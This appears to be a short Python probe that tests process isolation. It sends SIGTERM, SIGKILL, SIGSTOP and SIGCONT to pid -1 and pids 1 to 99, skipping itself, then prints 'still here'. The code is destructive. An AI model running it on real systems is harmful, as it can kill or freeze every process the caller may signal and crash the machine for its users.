import os, signal
for pid in [-1, *range(1, 100)]:
    if pid == os.getpid():
        continue
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGCONT):
        try:
            os.kill(pid, number)
        except OSError:
            pass
print("still here")
